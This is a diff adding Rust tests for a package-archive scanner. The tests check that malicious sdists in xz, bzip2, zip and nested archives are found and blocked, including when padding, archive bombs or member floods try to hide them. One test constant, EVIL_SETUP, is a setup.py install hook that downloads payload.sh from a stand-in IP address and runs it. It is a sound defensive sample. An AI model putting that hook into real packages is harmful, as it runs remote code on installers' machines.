@@ -706,3 +706,428 @@ fn an_unreadable_nested_archive_is_its_own_finding() {
     let meta = super::catalog().into_iter().find(|m| m.id == "anomaly.nested-archive-unreadable").expect("catalog");
     assert_eq!(meta.severity, Severity::Medium);
 }
+
+// ---- xz, streams that are not tars, incomplete scans ----
+
+fn tar_xz(entries: &[T<'_>]) -> Vec<u8> {
+    let tar = tar_of(entries);
+    let mut enc = xz2::write::XzEncoder::new(Vec::new(), 1);
+    enc.write_all(&tar).expect("xz");
+    enc.finish().expect("xz")
+}
+
+/// A compressed stream of `repeat` copies of `chunk`, cheaply: one compressed member of
+/// `chunk`, concatenated (gzip, bzip2 and xz all decode concatenated members as one stream).
+fn repeated(format: &str, chunk: &[u8], repeat: usize) -> Vec<u8> {
+    let one = compress(format, chunk);
+    let mut out = Vec::with_capacity(one.len() * repeat);
+    for _ in 0..repeat {
+        out.extend_from_slice(&one);
+    }
+    out
+}
+
+fn compress(format: &str, data: &[u8]) -> Vec<u8> {
+    match format {
+        "gz" => {
+            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+            e.write_all(data).expect("gz");
+            e.finish().expect("gz")
+        }
+        "bz2" => {
+            let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
+            e.write_all(data).expect("bz2");
+            e.finish().expect("bz2")
+        }
+        "xz" => {
+            let mut e = xz2::write::XzEncoder::new(Vec::new(), 6);
+            e.write_all(data).expect("xz");
+            e.finish().expect("xz")
+        }
+        other => panic!("unknown format {other}"),
+    }
+}
+
+/// A tar header block for a regular file of `size` bytes.
+fn tar_header(name: &str, size: u64) -> Vec<u8> {
+    let mut h = tar::Header::new_gnu();
+    h.set_path(name).expect("path");
+    h.set_size(size);
+    h.set_mode(0o644);
+    h.set_entry_type(tar::EntryType::Regular);
+    h.set_cksum();
+    h.as_bytes().to_vec()
+}
+
+/// One member as tar blocks: header, data, zero padding to 512.
+fn tar_member(name: &str, data: &[u8]) -> Vec<u8> {
+    let mut out = tar_header(name, data.len() as u64);
+    out.extend_from_slice(data);
+    out.resize(out.len().div_ceil(512) * 512, 0);
+    out
+}
+
+const EVIL_SETUP: &[u8] = b"import os, urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+class PostInstall(install):
+    def run(self):
+        urllib.request.urlretrieve('http://203.0.113.5/payload.sh', '/tmp/p.sh')
+        os.system('sh /tmp/p.sh')
+        install.run(self)
+
+setup(name='demo', version='1.0', cmdclass={'install': PostInstall})
+";
+
+fn shipped_policy() -> crate::policy::Policy {
+    let known: Vec<&str> = super::catalog().iter().map(|m| m.id).collect();
+    crate::policy::Policy::from_str_with_catalog("policy.yaml", include_str!("../../policy.yaml"), &known)
+        .unwrap_or_else(|e| panic!("{e}"))
+}
+
+fn verdict_for(r: &ScanReport) -> crate::model::Verdict {
+    let facts = crate::model::ArtifactFacts {
+        project: r.project.clone().unwrap_or_default(),
+        version: r.version.clone(),
+        filename: r.filename.clone(),
+        sha256: "a".repeat(64),
+        kind: r.kind,
+        size: 1,
+        upload_time: Some("2020-01-01T00:00:00Z".into()),
+        path: Default::default(),
+    };
+    shipped_policy().evaluate(&facts, &r.findings, time::OffsetDateTime::now_utc())
+}
+
+/// (detector, path) of every finding and evidence item, in order.
+fn located(r: &ScanReport) -> Vec<(String, String)> {
+    r.findings.iter().flat_map(|f| f.evidence.iter().map(|e| (f.detector.clone(), e.path.clone()))).collect()
+}
+
+#[test]
+fn xz_sdists_read_like_gzip_ones() {
+    let entries = [
+        T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
+        T::File(b"demo-1.0/setup.py", EVIL_SETUP),
+    ];
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let gz = scan_bytes(&scanner, "demo-1.0.tar.gz", &tar_gz(&entries));
+    assert!(!gz.findings.is_empty(), "the malicious setup.py is found in the .tar.gz");
+    assert!(gz.complete());
+    assert_eq!(verdict_for(&gz).decision, crate::model::Decision::Block, "blocked on its own");
+    let inner = tar_xz(&entries);
+    let cases: Vec<(&str, &str, Vec<u8>, &str)> = vec![
+        ("tar.xz sdist", "demo-1.0.tar.xz", tar_xz(&entries), ""),
+        ("tar.bz2 sdist", "demo-1.0.tar.bz2", tar_bz2(&entries), ""),
+        (
+            "tar.xz nested in a tar.gz",
+            "demo-1.0.tar.gz",
+            tar_gz(&[T::File(b"demo-1.0/vendor/demo-1.0.tar.xz", &inner)]),
+            "demo-1.0/vendor/demo-1.0.tar.xz!/",
+        ),
+    ];
+    for (case, filename, bytes, prefix) in cases {
+        let r = scan_bytes(&scanner, filename, &bytes);
+        // Nested, package-level findings (metadata of the artifact itself) differ: compare
+        // what is found in setup.py.
+        let in_setup = |v: Vec<(String, String)>| -> Vec<(String, String)> {
+            v.into_iter()
+                .filter(|(d, p)| prefix.is_empty() || (p.ends_with("setup.py") && !d.starts_with("metadata.")))
+                .collect()
+        };
+        let want: Vec<(String, String)> =
+            in_setup(located(&gz)).into_iter().map(|(d, p)| (d, format!("{prefix}{p}"))).collect();
+        let got = in_setup(located(&r));
+        assert_eq!(got, want, "{case}: same findings as the .tar.gz");
+        assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
+        assert_eq!(r.stats.text_members, gz.stats.text_members, "{case}");
+    }
+}
+
+#[test]
+fn compressed_streams_that_are_not_tars_are_never_clean() {
+    let zeros = vec![0u8; 1 << 20];
+    let junk = vec![b'A'; 1 << 20];
+    let mut tar_then_junk = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
+    tar_then_junk.extend_from_slice(&junk);
+    let mut bad_cksum = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
+    bad_cksum[148] = b'7';
+    let mut v7 = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
+    v7[257..265].copy_from_slice(&[0; 8]);
+    // (case, filename, bytes, finding, reason code of the verdict under the shipped policy)
+    let cases: Vec<(&str, &str, Vec<u8>, &str, &str)> = vec![
+        (
+            "1 GiB of zeros, gzip",
+            "x-1.0.tar.gz",
+            repeated("gz", &zeros, 1024),
+            "anomaly.trailing-data",
+            "fail-closed:scan-incomplete",
+        ),
+        (
+            "1 GiB of zeros, bzip2",
+            "x-1.0.tar.bz2",
+            repeated("bz2", &zeros, 1024),
+            "anomaly.trailing-data",
+            "fail-closed:scan-incomplete",
+        ),
+        (
+            "1 GiB of zeros, xz",
+            "x-1.0.tar.xz",
+            repeated("xz", &zeros, 1024),
+            "anomaly.trailing-data",
+            "fail-closed:scan-incomplete",
+        ),
+        (
+            "1 GiB of 'A', gzip",
+            "x-1.0.tar.gz",
+            repeated("gz", &junk, 1024),
+            "anomaly.unreadable-archive",
+            "fail-closed:scan-error",
+        ),
+        (
+            "python source, gzip",
+            "x-1.0.tar.gz",
+            compress("gz", EVIL_SETUP),
+            "anomaly.unreadable-archive",
+            "fail-closed:scan-error",
+        ),
+        (
+            "a tar, then junk",
+            "x-1.0.tar.gz",
+            compress("gz", &tar_then_junk),
+            "anomaly.trailing-data",
+            "fail-closed:scan-incomplete",
+        ),
+        (
+            "first header checksum broken",
+            "x-1.0.tar.xz",
+            compress("xz", &bad_cksum),
+            "anomaly.unreadable-archive",
+            "fail-closed:scan-error",
+        ),
+        (
+            "no ustar magic",
+            "x-1.0.tar.bz2",
+            compress("bz2", &v7),
+            "anomaly.unreadable-archive",
+            "fail-closed:scan-error",
+        ),
+        (
+            "a plain tar, then junk",
+            "x-1.0.tar",
+            tar_then_junk.clone(),
+            "anomaly.trailing-data",
+            "fail-closed:scan-incomplete",
+        ),
+    ];
+    let (scanner, _) = test_scanner(Limits::default());
+    for (case, filename, bytes, id, code) in cases {
+        let start = std::time::Instant::now();
+        let r = scan_bytes(&scanner, filename, &bytes);
+        assert!(start.elapsed() < std::time::Duration::from_secs(30), "{case}: bounded time");
+        assert_eq!(paths(&r, id), [filename], "{case}: {:#?}", r.findings);
+        let v = verdict_for(&r);
+        assert_eq!(v.decision, crate::model::Decision::Block, "{case}");
+        assert_eq!(v.reasons[0].code.to_string(), code, "{case}: {:#?}", v.reasons);
+        assert!(r.stats.uncompressed_bytes <= Limits::default().max_total_bytes, "{case}");
+    }
+    // A well-formed tar with record padding (zeros) after its end is clean.
+    let mut padded = tar_of(&[T::File(b"demo-1.0/setup.py", b"x = 1\n")]);
+    padded.resize(padded.len() + 10240, 0);
+    let r = scan_bytes(&scanner, "x-1.0.tar.gz", &compress("gz", &padded));
+    assert!(r.findings.iter().all(|f| f.category != Category::Anomaly), "{:#?}", r.findings);
+    assert!(r.complete());
+}
+
+/// A `.tar.gz` of `before` (name, size, byte) members made of one repeated byte, then the
+/// malicious setup.py. Large members cost little: the gzip stream is made of concatenated
+/// members, one per MiB, each compressed once.
+fn tar_gz_with_filler(fillers: &[(&str, u64, u8)], extra: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for &(name, size, byte) in fillers {
+        out.extend(compress("gz", &tar_header(name, size)));
+        let mib = vec![byte; 1 << 20];
+        let whole = compress("gz", &mib);
+        for _ in 0..size >> 20 {
+            out.extend_from_slice(&whole);
+        }
+        let rest = (size % (1 << 20)) as usize;
+        let mut tail = vec![byte; rest];
+        tail.resize(tail.len().div_ceil(512) * 512, 0);
+        out.extend(compress("gz", &tail));
+    }
+    let mut end = Vec::new();
+    for (name, data) in extra {
+        end.extend(tar_member(name, data));
+    }
+    end.extend_from_slice(&[0u8; 1024]);
+    out.extend(compress("gz", &end));
+    out
+}
+
+/// `n` empty members, then setup.py, as a tar.gz or a zip.
+fn many_members(n: usize, zip: bool) -> Vec<u8> {
+    let names: Vec<String> = (0..n).map(|i| format!("demo-1.0/e/{i:06}")).collect();
+    if zip {
+        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
+        let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
+        for name in &names {
+            w.start_file(name.as_str(), opts).expect("start_file");
+        }
+        w.start_file("demo-1.0/setup.py", opts).expect("start_file");
+        w.write_all(EVIL_SETUP).expect("write");
+        return w.finish().expect("finish").into_inner();
+    }
+    let mut tar = Vec::new();
+    for name in &names {
+        tar.extend(tar_member(name, b""));
+    }
+    tar.extend(tar_member("demo-1.0/setup.py", EVIL_SETUP));
+    tar.extend_from_slice(&[0u8; 1024]);
+    compress("gz", &tar)
+}
+
+/// Text padding that compresses about as well as real source (well under the bomb ratio).
+fn padded_text(len: usize) -> Vec<u8> {
+    let mut x: u32 = 0x9e37_79b9;
+    let mut out = Vec::with_capacity(len + 64);
+    while out.len() < len {
+        x ^= x << 13;
+        x ^= x >> 17;
+        x ^= x << 5;
+        out.extend_from_slice(format!("# padding {x:08x} {:08x}\n", x.rotate_left(7)).as_bytes());
+    }
+    out
+}
+
+#[test]
+fn content_past_a_limit_is_blocked_naming_the_limit() {
+    let small_text = Limits { max_text_bytes: 100_000, ..Limits::default() };
+    let padding = padded_text(200_000);
+    let mut padded_setup = padding.clone();
+    padded_setup.extend_from_slice(EVIL_SETUP);
+    let zeros_3m = vec![0u8; 3 << 20];
+    // (case, limits, filename, archive, limit named in the reason, setup.py still found)
+    #[allow(clippy::type_complexity)]
+    let cases: Vec<(&str, Limits, &str, Box<dyn Fn() -> Vec<u8>>, &str, bool)> = vec![
+        (
+            "300 MB zero member before setup.py (tar.gz, default limits)",
+            Limits::default(),
+            "demo-1.0.tar.gz",
+            Box::new(|| {
+                tar_gz_with_filler(&[("demo-1.0/data.bin", 300_000_000, 0)], &[("demo-1.0/setup.py", EVIL_SETUP)])
+            }),
+            "max_ratio",
+            false,
+        ),
+        (
+            "3 MiB zero member before setup.py (zip: the member is skipped, the walk goes on)",
+            Limits::default(),
+            "demo-1.0.zip",
+            Box::new(|| zip_of(&[("demo-1.0/data.bin", &zeros_3m), ("demo-1.0/setup.py", EVIL_SETUP)])),
+            "max_ratio",
+            true,
+        ),
+        (
+            "100,001 empty members before setup.py (zip, default limits)",
+            Limits::default(),
+            "demo-1.0.zip",
+            Box::new(|| many_members(100_001, true)),
+            "max_members",
+            false,
+        ),
+        (
+            "101 empty members before setup.py (tar.gz, max_members 100)",
+            Limits { max_members: 100, ..Limits::default() },
+            "demo-1.0.tar.gz",
+            Box::new(|| many_members(101, false)),
+            "max_members",
+            false,
+        ),
+        (
+            "33 MiB of padding inside setup.py before the payload (text cap 100 kB)",
+            small_text.clone(),
+            "demo-1.0.tar.gz",
+            Box::new(|| tar_gz(&[T::File(b"demo-1.0/setup.py", &padded_setup)])),
+            "max_text_bytes",
+            false,
+        ),
+        (
+            "a padding member over the text cap before setup.py (tar.gz: skipped, the walk goes on)",
+            small_text.clone(),
+            "demo-1.0.tar.gz",
+            Box::new(|| tar_gz(&[T::File(b"demo-1.0/aaa.py", &padding), T::File(b"demo-1.0/setup.py", EVIL_SETUP)])),
+            "max_text_bytes",
+            true,
+        ),
+        (
+            "33 MiB of padding inside setup.py (real size, default limits)",
+            Limits::default(),
+            "demo-1.0.tar.gz",
+            Box::new(|| {
+                let mut text = padded_text(33 << 20);
+                text.extend_from_slice(EVIL_SETUP);
+                tar_gz(&[T::File(b"demo-1.0/setup.py", &text)])
+            }),
+            "max_text_bytes",
+            false,
+        ),
+        (
+            "total over max_total_bytes",
+            Limits { max_total_bytes: 150_000, ..Limits::default() },
+            "demo-1.0.tar.gz",
+            Box::new(|| {
+                tar_gz(&[
+                    T::File(b"demo-1.0/aaa.py", &padding[..120_000]),
+                    T::File(b"demo-1.0/setup.py", &padded_setup),
+                ])
+            }),
+            "max_total_bytes",
+            false,
+        ),
+    ];
+    for (case, limits, filename, build, limit, setup_found) in cases {
+        let bytes = build();
+        let scanner = Scanner::new(limits.clone()).with_threads(1);
+        let start = std::time::Instant::now();
+        let r = scan_bytes(&scanner, filename, &bytes);
+        let took = start.elapsed();
+        assert!(took < std::time::Duration::from_secs(60), "{case}: took {took:?}");
+        assert!(r.stats.uncompressed_bytes <= limits.max_total_bytes, "{case}: {:?}", r.stats);
+        assert!(r.stats.members <= limits.max_members, "{case}: {:?}", r.stats);
+        assert!(!r.complete(), "{case}: marked incomplete");
+        let why = r.incomplete_reason().expect("reason");
+        assert!(why.contains(limit), "{case}: the reason names {limit}: {why}");
+        let json: serde_json::Value = serde_json::from_str(&super::render_json(&r)).expect("json");
+        assert_eq!(json["complete"], false, "{case}");
+        assert!(json["incomplete_reason"].as_str().is_some_and(|s| s.contains(limit)), "{case}");
+        let found = r.findings.iter().any(|f| {
+            f.evidence.iter().any(|e| e.path.ends_with("setup.py") && e.line.is_some())
+                && f.category != Category::Anomaly
+        });
+        assert_eq!(found, setup_found, "{case}: setup.py findings: {:#?}", r.findings);
+        let v = verdict_for(&r);
+        assert_eq!(v.decision, crate::model::Decision::Block, "{case}: {:#?}", v.reasons);
+        assert_eq!(
+            v.reasons[0].code,
+            crate::model::ReasonCode::FailClosed("scan-incomplete".into()),
+            "{case}: {:#?}",
+            v.reasons
+        );
+        assert!(v.reasons[0].message.contains(limit), "{case}: {}", v.reasons[0].message);
+    }
+}
+
+#[test]
+fn a_large_zero_member_in_a_tar_is_walked_in_bounded_memory() {
+    let bytes = tar_gz_with_filler(&[("demo-1.0/data.bin", 300_000_000, 0)], &[("demo-1.0/setup.py", EVIL_SETUP)]);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("artifact");
+    std::fs::write(&path, &bytes).expect("write");
+    let limits = Limits::default();
+    let mut walker = super::archive::Walker::new(&limits, Recorder::default());
+    walker.walk_file(&path, "demo-1.0.tar.gz");
+    assert!(walker.peak_buffer < 1 << 20, "buffers grew to {} bytes", walker.peak_buffer);
+    assert_eq!(walker.visitor.anomalies, [("anomaly.archive-bomb", "demo-1.0.tar.gz".to_string())]);
+}
